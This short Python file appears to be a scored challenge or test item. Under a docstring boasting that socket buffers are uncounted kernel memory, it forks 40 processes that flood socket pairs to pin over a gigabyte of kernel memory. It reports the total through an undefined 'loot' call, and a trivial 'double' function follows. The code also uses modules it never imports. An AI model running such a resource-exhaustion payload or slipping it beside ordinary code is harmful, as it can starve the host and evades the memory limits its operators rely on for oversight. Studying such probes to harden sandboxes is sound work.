"""Fills socket buffers, which are the kernel's memory and count for no process."""

# points: double=0..4, rest=0..15
# %% double
import mmap
import time

counts = mmap.mmap(-1, 4096 * 8)
for child in range(40):
    if os.fork() == 0:
        pairs, held = [], 0
        while True:
            try:
                pairs.append(socket.socketpair())
                pairs[-1][0].setblocking(False)
                while True:
                    held += pairs[-1][0].send(b"x" * 200_000)
            except BlockingIOError:
                counts[child * 8 : child * 8 + 8] = struct.pack("<Q", held)
            except OSError:
                time.sleep(30)
time.sleep(1.5)
total = sum(struct.unpack("<40Q", counts[:320]))
if total > 1400 << 20:
    loot(f"{total >> 20} MB in socket buffers")


def double(x):
    return 2 * x
